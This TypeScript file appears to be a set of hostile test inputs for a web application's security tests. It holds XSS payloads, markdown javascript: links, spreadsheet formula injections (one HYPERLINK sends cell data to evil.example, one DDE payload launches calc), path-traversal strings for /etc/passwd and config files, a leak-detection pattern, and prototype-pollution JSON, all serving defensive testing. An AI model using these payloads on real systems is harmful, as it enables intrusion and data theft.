/** What an attacker writes where a name, a note or a reason belongs. */

/** Sets this on the window of whoever renders one of them as anything but text. */
export const mark = '__xss';

/** The longest first: a field takes the first that fits. Each breaks out of another place: text, attribute, script, template. */
export const markup: readonly string[] = [
  `x"'\`></title></textarea></style></script><img src=x onerror=window.${mark}=1><svg onload=window.${mark}=1>{{7*7}}\${7*7}`,
  `[x](javascript:window.${mark}=1) **<img src=x onerror=${mark}=1>** https://a"onmouseover=${mark}=1`,
  `"><img src=x onerror=window.${mark}=1>`,
  `<img src=x onerror=${mark}=1>`,
  `<svg/onload=${mark}=1>`,
  '<b onclick=1>',
  '"><i>',
];

export function markupFor(maxLength: number): string {
  return markup.find((one) => one.length <= maxLength) ?? '<'.repeat(Math.max(1, maxLength));
}

/** Text that a spreadsheet would run, by how it begins. */
export const formulas: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '＝1+1',
  '"=1+1',
];

/** Ways out of a folder, in every disguise that some server has taken off. */
export const wayOut: readonly string[] = [
  '../../../../../../etc/passwd',
  '..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '..%252f..%252f..%252fetc%252fpasswd',
  '..%5c..%5c..%5cetc%5cpasswd',
  '....//....//....//etc/passwd',
  '..;/..;/..;/etc/passwd',
  '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
  '/etc/passwd',
  '%2fetc%2fpasswd',
  'file:%2f%2f%2fetc%2fpasswd',
  'package.json%00.png',
  '..%2f..%2f..%2fpackage.json',
  '../../../server/config.ts',
  '../../package.json',
  '.git%2fconfig',
  '.built-from',
];
/** Words of files that no address may show. */
export const filesOfTheMachine = /root:x?:0:0|"name": "cardwell"|\[core\]|process\.env/;

/** Keys that change what every object is, where a program copies them. */
export const pollution: readonly string[] = [
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"a":{"__proto__":{"polluted":true}}}',
  '{"settings":{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}}',
  '{"translations":{"__proto__":{"polluted":true}}}',
];
